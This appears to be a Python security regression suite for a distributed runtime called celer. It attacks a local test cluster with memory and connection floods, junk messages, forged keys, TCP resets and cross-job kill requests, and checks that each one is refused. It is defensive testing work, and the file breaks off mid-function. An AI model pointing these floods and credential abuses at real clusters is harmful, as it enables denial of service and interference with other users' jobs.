#!/usr/bin/env python3
"""The attacker suite (issue 13; docs/security.md, "Attacker suite").

Starts a real local cluster -- a head (with its own node agent) and a second node agent, each
in a CELER_TEMP_DIR of its own -- runs a victim job K (celer-security-victim: a named actor, a
placement group, an inline and a stored object) and a second job J, then replays every attack
below against it, as a stranger without the token (A), as the network (B), with job J's
credential (C), and as a local user reading /proc (D). Each attack prints PASS or FAIL with
what it measured; every section ends by checking that the head keeps serving and that
nothing of job K changed.

  attacker_suite.py --celer build/runtime/celer --victim build/tests/security/celer-security-victim
                    --fan-out build/apps/examples/celer-example-fan_out

Exit status 0 and a last line "attacker suite: passed" when every attack was refused (or is
a known gap, below); 1 otherwise; 77 when a Python module is missing (ctest: skipped).
Needs Debian's python3-zmq, python3-msgpack and python3-nacl (scripts/install-deps.sh).
"""

# Attacks that are NOT refused today: each is a real gap, reported loudly as XFAIL (and as a
# failure, XPASS, once it is fixed, so that this list stays true). name -> why, and where
# the fix belongs.
KNOWN_GAPS = {
    # Fixed this session, kept here as a record: A1b (frames capped at 16 MiB before the
    # handshake), C8b (who may send a type is checked from the header), C8c (the decode
    # budget), C10 (the node store records each object's job); issue 34: H1b (the node
    # agent's /proc/PID/fd opened every job's arena: daemons are not dumpable, and jobs run
    # as users of their own or under Landlock).
}

import argparse
import os
import random
import re
import resource
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

try:
    import msgpack
    import nacl.bindings  # noqa: F401 (attack_tools uses it: checked here, to skip without it)
    import zmq
except ImportError as e:  # pragma: no cover
    print(f"attacker suite: skipped: {e} (scripts/install-deps.sh installs python3-zmq, "
          "python3-msgpack and python3-nacl)")
    sys.exit(77)

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
import attack_tools  # noqa: E402 (after the check above)
import attacks_http  # noqa: E402
import attacks_isolation  # noqa: E402
import attacks_jobs  # noqa: E402
import attacks_store  # noqa: E402
from attack_tools import (MIB, NIL, NO_ADDR, TAGS, U64, Keys, addr, alive, children, env_var,
                          environ, fds, frames_of, split_message, hello, hwm, id_bytes, idv, listening_ports,
                          log_lines, mib, pack, peak_before, random_keypair, resources, rss,
                          task_spec, tcp_sockets)

# Sections in modules of their own (issue 34), run after A-D in this order.
EXTRA_SECTIONS = (attacks_jobs, attacks_store, attacks_http, attacks_isolation)

HEAD_COMPONENT = (0, 1)
NODE_TIMEOUT_MS = 6000

# ---------------------------------------------------------------------------------------
# Results


class Results:
    def __init__(self):
        self.passed, self.failed, self.xfailed, self.xpassed, self.skipped = [], [], [], [], []

    def record(self, name, ok, detail):
        gap = KNOWN_GAPS.get(name.split(" ", 1)[0])
        if gap is None:
            (self.passed if ok else self.failed).append(name)
            print(f"{'PASS' if ok else 'FAIL'} {name}: {detail}", flush=True)
        elif ok:
            self.xpassed.append(name)
            print(f"XPASS {name}: {detail} -- refused now: remove it from KNOWN_GAPS", flush=True)
        else:
            self.xfailed.append(name)
            print(f"XFAIL {name}: {detail}\n      KNOWN GAP: {gap}", flush=True)
        return ok

    def skip(self, name, why):
        self.skipped.append(name)
        print(f"SKIP {name}: {why}", flush=True)


R = Results()


def check(name, ok, detail):
    return R.record(name, bool(ok), detail)


# ---------------------------------------------------------------------------------------
# The cluster


class Cluster:
    def __init__(self, celer, work):
        self.celer, self.work = celer, work
        self.head_dir = os.path.join(work, "head")
        self.node_dir = os.path.join(work, "node")
        os.makedirs(self.head_dir, mode=0o700)
        os.makedirs(self.node_dir, mode=0o700)
        self.env = dict(os.environ)
        for k in ("CELER_TOKEN", "CELER_ADDRESS", "CELER_TEMP_DIR"):
            self.env.pop(k, None)
        # A node silent this long is dead. Long enough that an attack the head takes a while
        # to refuse (C8 decodes 30 MiB) on a loaded 2-core machine does not stop heartbeats
        # that long; attack B waits past it.
        self.env.update(CELER_NODE_TIMEOUT_MS=str(NODE_TIMEOUT_MS), CELER_HEARTBEAT_MS="200")
        # Jobs' own folders (the job_dir knob): outside the work directory, which a job's
        # user may not traverse.
        self.job_dir = tempfile.mkdtemp(prefix="celer-attack-jobs.", dir="/tmp")
        self.env.update(CELER_JOB_DIR=self.job_dir)

    def run(self, args, temp_dir=None, extra_env=None, timeout=60, stdin=None):
        env = dict(self.env, CELER_TEMP_DIR=temp_dir or self.head_dir, **(extra_env or {}))
        return subprocess.run([self.celer, *args], env=env, capture_output=True, text=True,
                              timeout=timeout, stdin=stdin)

    def start(self):
        out = self.run(["start", "--head", "--port", "0", "--num-cpus", "2",
                        "--resources", '{"victim_slot": 2}'])
        m = re.search(r"started at (\S+) \(pid (\d+)\)", out.stdout)
        if not m:
            raise RuntimeError(f"the head did not start: {out.stdout}{out.stderr}")
        self.address, self.head_pid = m.group(1), int(m.group(2))
        self.head_port = int(self.address.rsplit(":", 1)[1])
        self.session = os.path.realpath(os.path.join(self.head_dir, "session_latest"))
        with open(os.path.join(self.session, "token")) as f:
            self.token = f.read().strip()
        # The second node joins as from another machine: its own temp dir, the token from a
        # file of its own (mode 0600).
        self.token_file = os.path.join(self.work, "token")
        fd = os.open(self.token_file, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        os.write(fd, (self.token + "\n").encode())
        os.close(fd)
        out = self.run(["start", "--address", self.address, "--num-cpus", "2",
                        "--token-file", self.token_file], temp_dir=self.node_dir)
        m = re.search(r"\(pid (\d+)\)", out.stdout)
        if "joined" not in out.stdout or not m:
            raise RuntimeError(f"the second node did not join: {out.stdout}{out.stderr}")
        self.node_pid = int(m.group(1))
        self.head_log = os.path.join(self.session, "logs", "head.log")
        self.node_session = [os.path.join(self.node_dir, d) for d in os.listdir(self.node_dir)
                             if d.startswith("session_")][0]
        logs = os.path.join(self.node_session, "logs")
        self.node_log = os.path.join(logs, [f for f in os.listdir(logs) if f.startswith("node-")][0])
        self.head_node_id = self._node_id(self.head_log)
        self.node_id = self._node_id(self.node_log)
        self.node_port = self._port_in(self.node_log, r"serving at tcp://[^\s,]+:(\d+),")
        self.lane_port = self._port_in(self.node_log, r"bulk lane at tcp://[^\s,]+:(\d+),")
        self.node_endpoint = f"tcp://127.0.0.1:{self.node_port}"
        self.head_endpoint = f"tcp://{self.address}"
        self.keys = Keys(self.token)
        self.wait_nodes(2)

    @staticmethod
    def _port_in(log, pattern):
        for _ in range(50):
            for line in log_lines(log):
                m = re.search(pattern, line)
                if m:
                    return int(m.group(1))
            time.sleep(0.1)
        raise RuntimeError(f"no {pattern!r} in {log}")

    @staticmethod
    def _node_id(log):
        for _ in range(50):
            for line in log_lines(log):
                m = re.search(r"serving at \S+, node ([0-9a-f]{32})", line)
                if m:
                    return int(m.group(1), 16)
            time.sleep(0.1)
        raise RuntimeError(f"no node id in {log}")

    def status(self):
        return self.run(["status", "--address", self.address], timeout=30)

    def wait_nodes(self, n, seconds=20):
        deadline = time.time() + seconds
        while True:
            st = self.status()
            if st.returncode == 0 and f"{n} node(s), {n} alive" in st.stdout:
                return st
            if time.time() > deadline:
                raise RuntimeError(f"the cluster does not have {n} live nodes: {st.stdout}{st.stderr}")
            time.sleep(0.2)

    def groups(self):
        return self.run(["list", "placement-groups", "--address", self.address], timeout=30)

    def driver_env(self):
        return dict(self.env, CELER_TEMP_DIR=self.head_dir, CELER_ADDRESS=self.address)

    def workers(self):
        """{pid: (job hex, worker id hex, node id hex)} of every worker process."""
        out = {}
        for parent in (self.head_pid, self.node_pid):
            for pid in children(parent):
                try:
                    raw = environ(pid)
                except OSError:
                    continue
                job = env_var(raw, "CELER_WORKER_JOB")
                if job:
                    out[pid] = (job, env_var(raw, "CELER_WORKER_ID"), env_var(raw, "CELER_WORKER_NODE"))
        return out

    def stop(self):
        for d in (self.node_dir, self.head_dir):
            try:
                self.run(["stop"], temp_dir=d, timeout=30)
            except Exception:
                pass
        for pid in (getattr(self, "node_pid", None), getattr(self, "head_pid", None)):
            if pid and alive(pid):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass


class Driver:
    """celer-security-victim, driven through its standard input."""

    def __init__(self, binary, cluster, name):
        # Its warnings go to a file of their own: standard output carries only its answers.
        self.stderr_path = os.path.join(cluster.work, f"driver-{name}.stderr")
        self.stderr = open(self.stderr_path, "w")
        self.p = subprocess.Popen([binary, name], env=cluster.driver_env(), stdin=subprocess.PIPE,
                                  stdout=subprocess.PIPE, stderr=self.stderr, text=True,
                                  bufsize=1)
        self.name = name
        self.checks = 0
        line = self.read(90)
        m = re.match(r"ready actor=(\w+) group=(\w+) object=(\w+) stored=(\w+) value=(\d+) "
                     r"object_sum=(\d+) stored_sum=(\d+)", line or "")
        if not m:
            rest = ""
            if self.p.poll() is not None:
                rest = self.p.stdout.read()
            with open(self.stderr_path) as f:
                rest += f.read()[-2000:]
            raise RuntimeError(f"driver {name} did not get ready: {line!r} {rest}")
        self.actor, self.group, self.object, self.stored = (int(m.group(i), 16) for i in range(1, 5))
        self.value = int(m.group(5))
        self.object_sum, self.stored_sum = int(m.group(6)), int(m.group(7))

    def read(self, timeout):
        box = []
        t = threading.Thread(target=lambda: box.append(self.p.stdout.readline()), daemon=True)
        t.start()
        t.join(timeout)
        return box[0].strip() if box else None

    def ask(self, line, timeout=60):
        self.p.stdin.write(line + "\n")
        self.p.stdin.flush()
        return self.read(timeout)

    def check(self):
        """(ok, what it said): the actor answers with its state intact, both objects read
        back unchanged, the group is still created."""
        if self.p.poll() is not None:
            return False, f"the driver exited ({self.p.returncode})"
        self.checks += 1
        got = self.ask("check") or "no answer"
        want = (f"check actor={self.value + self.checks} object={self.object_sum} "
                f"stored={self.stored_sum} group=created")
        return got == want, got

    def quit(self):
        if self.p.poll() is None:
            try:
                self.p.stdin.write("quit\n")
                self.p.stdin.flush()
                self.p.wait(30)
            except Exception:
                self.p.kill()
        self.stderr.close()


# ---------------------------------------------------------------------------------------
# Attacker sockets


class JobPeer:
    """Speaks as job J (its credential only) to head and nodes, and listens for replies at
    tcp://127.0.0.1:PORT#job=J, as J's own processes do."""

    def __init__(self, ctx, cluster, job):
        self.ctx, self.cluster, self.job = ctx, cluster, job
        self.public, self.secret = cluster.keys.job_keypair(job)
        self.inbox = ctx.socket(zmq.ROUTER)
        self.inbox.setsockopt(zmq.LINGER, 0)
        self.inbox.curve_server = True
        self.inbox.curve_secretkey = self.secret
        self.inbox.curve_publickey = self.public
        port = self.inbox.bind_to_random_port("tcp://127.0.0.1")
        self.self_id = random.getrandbits(128)
        self.endpoint = f"tcp://127.0.0.1:{port}#job={job:032x}"
        self.address = addr(self.self_id, self.endpoint)
        self.peers = {}

    def peer(self, endpoint):
        if endpoint not in self.peers:
            s = self.ctx.socket(zmq.DEALER)
            s.setsockopt(zmq.LINGER, 0)
            s.setsockopt(zmq.SNDHWM, 0)
            s.curve_serverkey = self.cluster.keys.cluster_public
            s.curve_publickey = self.public
            s.curve_secretkey = self.secret
            s.connect(endpoint)
            self.peers[endpoint] = s
        return self.peers[endpoint]

    def hello(self, endpoint, timeout=3.0):
        s = self.peer(endpoint)
        s.send_multipart(hello())
        if s.poll(int(timeout * 1000)):
            return s.recv_multipart()
        return None

    def send(self, endpoint, dest, name, fields, bulk=()):
        first, *rest = frames_of(name, fields, bulk)
        self.peer(endpoint).send_multipart([b"M" + id_bytes(dest) + first, *rest], copy=False)

    def replies(self, timeout):
        """Messages that reached the inbox within `timeout` s: [(name, body)]."""
        names = {v: k for k, v in TAGS.items()}
        out = []
        deadline = time.time() + timeout
        while True:
            left = deadline - time.time()
            if left <= 0 or not self.inbox.poll(int(left * 1000)):
                return out
            f = self.inbox.recv_multipart()
            if len(f) >= 2 and f[1][:1] == b"M" and len(f[1]) > 18:
                h, body = split_message(f[1][17:])
                out.append((names.get(h[2], str(h[2])), msgpack.unpackb(body, raw=False,
                                                                       strict_map_key=False)))

    def reply(self, name, timeout=5.0):
        deadline = time.time() + timeout
        while time.time() < deadline:
            for n, body in self.replies(max(0.05, deadline - time.time())):
                if n == name:
                    return body
        return None

    def close(self):
        for s in self.peers.values():
            s.close(0)
        self.inbox.close(0)


def curve_dealer(ctx, server_public, public, secret, endpoint):
    s = ctx.socket(zmq.DEALER)
    s.setsockopt(zmq.LINGER, 0)
    s.curve_serverkey = server_public
    s.curve_publickey = public
    s.curve_secretkey = secret
    mon = s.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED | zmq.EVENT_HANDSHAKE_FAILED_AUTH |
                               zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL |
                               zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL | zmq.EVENT_DISCONNECTED)
    s.connect(endpoint)
    return s, mon


def sent_hello(s):
    """Sends a hello; False when the socket had nowhere to queue it within the context's send
    timeout (the server refused the handshake first: nothing was sent, nothing can answer)."""
    try:
        s.send_multipart(hello())
        return True
    except zmq.Again:
        return False


def first_event(mon, timeout):
    names = {zmq.EVENT_HANDSHAKE_SUCCEEDED: "handshake succeeded",
             zmq.EVENT_HANDSHAKE_FAILED_AUTH: "refused by ZAP (auth failed)",
             zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL: "handshake failed (protocol)",
             zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL: "handshake failed",
             zmq.EVENT_DISCONNECTED: "disconnected"}
    if mon.poll(int(timeout * 1000)):
        from zmq.utils.monitor import recv_monitor_message
        ev = recv_monitor_message(mon)
        return names.get(ev["event"], str(ev["event"]))
    return "no event"


# ---------------------------------------------------------------------------------------
# The suite


class Suite:
    def __init__(self, args):
        self.args = args
        self.ctx = zmq.Context()
        # No send may block the suite: a socket whose handshake failed has nowhere to queue.
        self.ctx.setsockopt(zmq.SNDTIMEO, 5000)
        self.work = tempfile.mkdtemp(prefix="celer-attack.", dir="/tmp")
        self.cluster = Cluster(args.celer, self.work)
        self.victim = self.attacker = self.jpeer = None
        self.job_dir = self.cluster.job_dir

    # -- what every section ends with

    def serving(self, what):
        st = self.cluster.status()
        ok = st.returncode == 0 and "2 node(s), 2 alive" in st.stdout
        return check(f"{what}: the head keeps serving", ok and alive(self.cluster.head_pid) and
                     alive(self.cluster.node_pid),
                     "celer status: " + (st.stdout.splitlines()[0] if st.stdout else st.stderr.strip()))

    def victim_intact(self, what):
        ok, said = self.victim.check()
        groups = self.cluster.groups().stdout
        listed = re.search(rf"group {self.victim.group:032x} .*CREATED", groups) is not None
        actor_pid = self.victim_actor_pid in self.cluster.workers()
        return check(f"{what}: job K's actor, objects and group are unchanged",
                     ok and listed and actor_pid,
                     f"victim says '{said}'; group listed CREATED: {listed}; "
                     f"actor's worker pid {self.victim_actor_pid} alive: {actor_pid}")

    def bounded(self, what, pid, before, limit):
        grew = hwm(pid) - before
        return check(what, grew < limit, f"peak RSS grew by {mib(grew)} (limit {mib(limit)}), "
                     f"RSS now {mib(rss(pid))}")

    def log_has(self, path, pattern, since, timeout=3.0):
        deadline = time.time() + timeout
        while True:
            lines = log_lines(path)[since:]
            hit = [l for l in lines if re.search(pattern, l)]
            if hit or time.time() > deadline:
                return hit[0] if hit else None
            time.sleep(0.1)

    def bound(self, attack):
        """An attack of a section module, as a method of this suite."""
        def run():
            return attack(self, check)
        run.__name__ = attack.__name__
        return run

    # -- setup

    def setup(self):
        c = self.cluster
        c.start()
        print(f"cluster: head {c.address} (pid {c.head_pid}, node {c.head_node_id:032x}), "
              f"node {c.node_endpoint} (pid {c.node_pid}, node {c.node_id:032x})", flush=True)
        before = set(c.workers())
        self.victim = Driver(self.args.victim, c, "victim")
        time.sleep(0.3)
        mine = {p: w for p, w in c.workers().items() if p not in before}
        jobs = {w[0] for w in mine.values()}
        if len(jobs) != 1:
            raise RuntimeError(f"cannot tell job K's workers: {mine}")
        self.k = int(jobs.pop(), 16)
        self.victim_actor_pid = min(mine)
        self.victim_actor_worker = int(mine[self.victim_actor_pid][1], 16)
        self.victim_actor_node = int(mine[self.victim_actor_pid][2], 16)
        ports = listening_ports(self.victim.p.pid)
        self.victim_endpoint = f"tcp://127.0.0.1:{ports[0]}#job={self.k:032x}" if ports else ""
        print(f"victim: job K {self.k:032x}, actor {self.victim.actor:032x} (worker pid "
              f"{self.victim_actor_pid}), group {self.victim.group:032x}, objects "
              f"{self.victim.object:032x} {self.victim.stored:032x}, driver at "
              f"{self.victim_endpoint}", flush=True)
        before = set(c.workers())
        self.attacker = Driver(self.args.victim, c, "attacker")
        time.sleep(0.3)
        jobs = {w[0] for p, w in c.workers().items() if p not in before}
        if len(jobs) != 1:
            raise RuntimeError(f"cannot tell job J's workers: {jobs}")
        self.j = int(jobs.pop(), 16)
        print(f"attacker: job J {self.j:032x} (a real driver, alive throughout)", flush=True)
        self.jpeer = JobPeer(self.ctx, c, self.j)
        check("setup: the victim job is healthy before any attack", self.victim.check()[0],
              "actor answers, objects read back, group created")

    # -- A. No token

    def attack_huge_frames_without_keys(self):
        c = self.cluster
        size = self.args.frame_mib * MIB
        buf = bytearray(size)  # shared by every frame (zero-copy): one buffer in this process
        before = peak_before(c.head_pid)
        s = self.ctx.socket(zmq.DEALER)
        s.setsockopt(zmq.LINGER, 0)
        s.setsockopt(zmq.SNDHWM, 0)
        s.connect(c.head_endpoint)
        t0 = time.time()
        queued = 0
        for _ in range(2):
            try:
                s.send_multipart([b"M", bytes(16)] + [memoryview(buf)] * 8, copy=False)
                queued += 1
            except zmq.Again:  # the head already closed it (handshake failed): nothing queues
                pass
        time.sleep(2.0)
        s.close(0)
        self.bounded(f"A1 no keys, 2 messages of 8 x {self.args.frame_mib} MiB frames "
                     f"({queued} queued; ZeroMQ NULL mechanism): the head allocates nothing",
                     c.head_pid, before, 64 * MIB)
        # The same at the byte level: a raw TCP peer that greets as a CURVE client and then
        # announces and streams one huge handshake frame (what a NULL-mechanism DEALER never
        # gets to send). ZeroMQ checks maxmsgsize on handshake frames too.
        before = peak_before(c.head_pid)
        sent = 0
        try:
            sock = socket.create_connection(("127.0.0.1", c.head_port), timeout=5)
            greeting = (b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"CURVE".ljust(20, b"\0") +
                        b"\x00" + bytes(31))
            sock.sendall(greeting)
            sock.recv(64)
            # A long command frame: flags 0x06 (command, long), 8-byte size.
            sock.sendall(b"\x06" + size.to_bytes(8, "big"))
            chunk = bytes(MIB)
            deadline = time.time() + 4
            while sent < size and time.time() < deadline:
                sock.sendall(chunk)
                sent += len(chunk)
        except OSError as e:
            print(f"      (raw peer: connection ended after {mib(sent)}: {e})")
        finally:
            try:
                sock.close()
            except Exception:
                pass
        time.sleep(0.5)
        self.bounded(f"A1b no keys, a raw peer announcing a {self.args.frame_mib} MiB handshake "
                     f"frame and sending {mib(sent)} of it: the head allocates nothing",
                     c.head_pid, before, 64 * MIB)
        print(f"      ({time.time() - t0:.1f} s)")

    def attack_many_connections(self):
        c = self.cluster
        n = 1100
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        if soft < n + 200:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 500), hard))
        base = fds(c.head_pid)
        socks = []
        for _ in range(n):
            try:
                socks.append(socket.create_connection(("127.0.0.1", c.head_port), timeout=5))
            except OSError as e:
                print(f"      (stopped opening at {len(socks)}: {e})")
                break
        time.sleep(0.5)
        peak = fds(c.head_pid)
        during = c.status()
        during_ok = during.returncode == 0
        # ZeroMQ closes a connection that has not finished its handshake in 5 s.
        opened = time.time()
        while time.time() < opened + 12 and fds(c.head_pid) > base + 5:
            time.sleep(0.25)
        time.sleep(0.5)
        after, waited = fds(c.head_pid), time.time() - opened
        closed_by_head = 0
        for s in socks:
            s.setblocking(False)
            try:
                while s.recv(4096):  # the head's greeting, then end of file once it closed
                    pass
                closed_by_head += 1
            except BlockingIOError:
                pass
            except OSError:
                closed_by_head += 1
        for s in socks:
            s.close()
        check(f"A2 {len(socks)} keyless connections left open: the head closes them",
              after <= base + 10 and closed_by_head >= len(socks) - 2,
              f"head fds: {base} before, {peak} with them open, {after} "
              f"{waited:.1f}s later (handshake timeout 5 s); "
              f"{closed_by_head} of {len(socks)} closed by the head; celer status while open: "
              f"{'ok' if during_ok else 'FAILED ' + during.stderr.strip()[:200]}")
        self.serving("A2")

    def attack_junk_flood(self):
        c = self.cluster
        before_lines = len(log_lines(c.head_log))
        before_hwm = peak_before(c.head_pid)
        t0 = time.time()
        sent = 0
        # Keyless peers: raw TCP connections that send garbage and go.
        sent += self.raw_junk(c.head_port, 1500)
        # And ZeroMQ peers without keys, each queueing messages that are never read.
        dealers = []
        for _ in range(20):
            d = self.ctx.socket(zmq.DEALER)
            d.setsockopt(zmq.LINGER, 0)
            d.setsockopt(zmq.SNDTIMEO, 50)
            d.connect(c.head_endpoint)
            for _ in range(100):
                try:
                    d.send_multipart([b"M", os.urandom(16), b"junk", b"more junk"])
                    sent += 1
                except zmq.Again:  # its handshake failed: nothing to queue on
                    break
            dealers.append(d)
        time.sleep(1.0)
        for d in dealers:
            d.close(0)
        elapsed = time.time() - t0
        time.sleep(0.5)
        grew = len(log_lines(c.head_log)) - before_lines
        limit = 5 * (elapsed + 2) + 10
        check(f"A3 {sent} junk messages and connections from keyless peers in {elapsed:.1f}s: "
              "the head's log grows by a bounded number of lines",
              grew <= limit, f"{grew} new log lines (limit {limit:.0f}: 5 a second)")
        self.bounded("A3c the junk flood costs the head no memory", c.head_pid, before_hwm, 64 * MIB)
        # An authenticated peer's junk (job J): dropped, logged rate-limited too.
        before_lines = len(log_lines(c.head_log))
        t0 = time.time()
        s = self.jpeer.peer(c.head_endpoint)
        for i in range(5000):
            s.send_multipart([b"M" + bytes(16) + b"\x95junk" + os.urandom(8)] if i % 2 else
                             [b"Z", b"junk"])
        self.jpeer.hello(c.head_endpoint)  # processed after the junk
        elapsed = time.time() - t0
        grew = len(log_lines(c.head_log)) - before_lines
        limit = 5 * (elapsed + 2) + 5
        check(f"A3b 5000 junk messages from job J's connection in {elapsed:.1f}s: dropped, the "
              "log grows by a bounded number of lines", grew <= limit,
              f"{grew} new log lines (limit {limit:.0f})")

    @staticmethod
    def raw_junk(port, count):
        """`count` raw TCP connections to `port` that each send garbage (random bytes, or a
        ZeroMQ NULL greeting followed by junk) and go; returns how many got through."""
        sent = 0
        for i in range(count):
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=2)
                s.sendall(os.urandom(256) if i % 2 else b"\xff" + bytes(8) + b"\x7f\x03\x00NULL" +
                          bytes(48) + b"junk" * 64)
                s.close()
                sent += 1
            except OSError:
                pass
        return sent

    def attack_bulk_lane(self):
        """The node's bulk lane takes connections from anyone: junk there is dropped."""
        c = self.cluster
        before_lines = len(log_lines(c.node_log))
        before_hwm = peak_before(c.node_pid)
        t0 = time.time()
        sent = 0
        sent += self.raw_junk(c.lane_port, 500)
        header = lambda: b"L" + os.urandom(32)  # a random pull: no such request id
        dealers = []
        for _ in range(20):  # ZeroMQ peers: frames that are no chunk, and chunks of no pull
            d = self.ctx.socket(zmq.DEALER)
            d.setsockopt(zmq.LINGER, 0)
            d.setsockopt(zmq.SNDTIMEO, 50)
            d.connect(f"tcp://127.0.0.1:{c.lane_port}")
            for frames in ([b"x"], [b"L", b"short"], [header(), b"a", b"b"],
                           [header(), os.urandom(1 << 20)], [header(), os.urandom(8 << 20)]):
                try:
                    d.send_multipart(frames)
                    sent += 1
                except zmq.Again:
                    break
            dealers.append(d)
        time.sleep(1.0)
        for d in dealers:
            d.close(0)
        elapsed = time.time() - t0
        time.sleep(0.5)
        grew = len(log_lines(c.node_log)) - before_lines
        limit = 5 * (elapsed + 2) + 10
        check(f"A5 {sent} junk connections and frames to the node's bulk lane in {elapsed:.1f}s: "
              "dropped, the node's log grows by a bounded number of lines",
              grew <= limit and alive(c.node_pid), f"{grew} new log lines (limit {limit:.0f})")
        self.bounded("A5b the junk costs the node no lasting memory", c.node_pid, before_hwm,
                     256 * MIB)

    def attack_wrong_keys(self):
        c = self.cluster
        # A wrong token's keys: the client expects another server key; the head cannot read
        # the client's HELLO.
        wrong = Keys(os.urandom(32).hex())
        s, mon = curve_dealer(self.ctx, wrong.cluster_public, wrong.cluster_public,
                              wrong.cluster_secret, c.head_endpoint)
        answered = sent_hello(s) and s.poll(2000)
        ev = first_event(mon, 0.1)
        check("A4 a peer with a wrong token's keys is refused", not answered and
              ev != "handshake succeeded", f"hello answered: {answered}; client saw: {ev}")
        s.close(0)
        mon.close(0)
        # The right cluster public key, a random client key: ZAP refuses it.
        pub, sec = random_keypair()
        before = len(log_lines(c.head_log))
        s, mon = curve_dealer(self.ctx, c.keys.cluster_public, pub, sec, c.head_endpoint)
        answered = sent_hello(s) and s.poll(2000)
        ev = first_event(mon, 0.1)
        line = self.log_has(c.head_log, r"refused a connection .*unknown key", before)
        check("A4b the cluster's public key with a random client key is refused (ZAP)",
              not answered and ev != "handshake succeeded",
              f"hello answered: {answered}; client saw: {ev}; head log: {line!r}")
        s.close(0)
        mon.close(0)
        # PLAIN with the right user name and a guessed password, to an encrypting cluster.
        s = self.ctx.socket(zmq.DEALER)
        s.setsockopt(zmq.LINGER, 0)
        s.plain_username = b"cluster"
        s.plain_password = os.urandom(32).hex().encode()
        s.connect(c.head_endpoint)
        answered = sent_hello(s) and s.poll(1500)
        check("A4c a PLAIN peer claiming to be the cluster is refused", not answered,
              f"hello answered: {answered}")
        s.close(0)
        # Positive control: the real cluster keys are answered (so the refusals above mean
        # something).
        s, mon = curve_dealer(self.ctx, c.keys.cluster_public, c.keys.cluster_public,
                              c.keys.cluster_secret, c.head_endpoint)
        s.send_multipart(hello())
        got = s.recv_multipart() if s.poll(3000) else None
        check("A4d control: the cluster's own keys are answered", got == [b"A"], f"reply {got}")
        s.close(0)
        mon.close(0)
        self.serving("A4")

    # -- B. Reconnects

    def attack_tcp_reset(self):
        c = self.cluster
        if shutil.which("ss") is None:
            R.skip("B a TCP reset between node and head", "no `ss` (iproute2)")
            return
        head_local = {lp for lp, _, st in tcp_sockets(c.head_pid) if st == "01"}
        pairs = []
        for lp, rp, st in tcp_sockets(c.node_pid):
            if st != "01":
                continue
            if rp == c.head_port or (lp == c.node_port and rp in head_local):
                pairs.append((lp, rp))
        if not pairs:
            R.skip("B a TCP reset between node and head", "no connection between them found")
            return
        for lp, rp in pairs:
            r = subprocess.run(["ss", "-K", "-t", "state", "established",
                                f"( sport = :{lp} and dport = :{rp} )"],
                               capture_output=True, text=True)
        time.sleep(0.3)
        now = {(lp, rp) for lp, rp, st in tcp_sockets(c.node_pid) if st == "01"}
        if all(p in now for p in pairs):
            R.skip("B a TCP reset between node and head",
                   f"`ss -K` does not close sockets here (needs root and a kernel with "
                   f"INET_DIAG_DESTROY): {r.stderr.strip()[:200]}")
            return
        killed = sum(p not in now for p in pairs)
        # Past the node timeout: a node whose reconnect lost its identity would be dead by
        # then.
        time.sleep(NODE_TIMEOUT_MS / 1000 + 2)
        st = c.status()
        line = next((l for l in st.stdout.splitlines() if l.startswith(f"node {c.node_id:032x}"[:13])), "")
        said = self.victim.ask(f"where {c.node_id:032x}", timeout=60)
        check("B after `ss -K` reset the node's connections to the head, the node stays alive "
              "and runs work", "alive" in line and "2 alive" in st.stdout and
              said == f"where {c.node_id:032x}",
              f"reset {killed} of {len(pairs)} connections; status: '{line.strip()}'; a task "
              f"pinned to the node: '{said}'")

    # -- C. One job's credential against another job

    def attack_job_credential(self):
        c, j, k, v = self.cluster, self.j, self.k, self.victim
        jp = self.jpeer
        head, node = c.head_endpoint, c.node_endpoint
        jshort, kshort = f"{j:032x}"[:8], f"{k:032x}"[:8]
        # Control: J's credential reaches head and node, and its messages are decoded and
        # answered (so each refusal below is a refusal, not a message lost on the way).
        got = jp.hello(head)
        check("C0 control: job J's connection to the head is accepted", got == [b"A"], f"{got}")
        jp.send(head, HEAD_COMPONENT, "status_query", [1, jp.address])
        r = jp.reply("status_reply")
        check("C0b control: job J's status_query is answered by the head", r is not None,
              f"status_reply with {len(r[1]) if r else 0} nodes")
        jp.send(node, c.node_id, "store_stats_query", [2, jp.address])
        r = jp.reply("store_stats_reply")
        check("C0c control: job J's store_stats_query is answered by the second node",
              r is not None, f"{r}")

        def denied(name, dest_ep, dest, fields, log, pattern, bulk=(), timeout=3.0):
            """Sends as J; the log line that says it was refused, or None."""
            since = len(log_lines(log))
            time.sleep(0.25)  # under the log's 5 lines a second
            jp.send(dest_ep, dest, name, fields, bulk)
            return self.log_has(log, pattern, since, timeout)

        # kill_actor of K's actor: admitted (sender_job stamped J), refused by the head.
        line = denied("kill_actor", head, HEAD_COMPONENT, [idv(v.actor), "attack", NIL], c.head_log,
                      rf"permission_denied: job {jshort} asked about killing actor")
        time.sleep(0.5)
        ok, said = v.check()
        check("C1 kill_actor of job K's actor, from job J, is refused", line and ok,
              f"head log: {line!r}; K's actor still answers: '{said}'")
        # kill_actor with no_restart = false (protocol 20: a kill the actor restarts from),
        # to the head and to each node agent (the one hosting K's actor would stop its worker).
        line = denied("kill_actor", head, HEAD_COMPONENT, [idv(v.actor), "attack", NIL, False], c.head_log,
                      rf"permission_denied: job {jshort} asked about killing actor")
        vshort = f"{v.actor:032x}"[:8]
        node_lines = [denied("kill_actor", ep, dest, [idv(v.actor), "attack", NIL, False], log,
                             rf"permission_denied: job {jshort} asked about actor {vshort}", timeout=1.5)
                      for ep, dest, log in ((head, c.head_node_id, c.head_log), (node, c.node_id, c.node_log))]
        time.sleep(0.5)
        ok, said = v.check()
        check("C1b kill_actor with no_restart = false of job K's actor, from job J, is refused by "
              "the head and by the node hosting it", line and any(node_lines) and ok,
              f"head log: {line!r}; node logs: {node_lines!r}; K's actor still answers: '{said}'")
        # job_finished{K}
        line = denied("job_finished", head, HEAD_COMPONENT, [idv(k)], c.head_log,
                      rf"job_finished from job {jshort} refused: it names job {kshort}")
        time.sleep(0.5)
        ok, said = v.check()
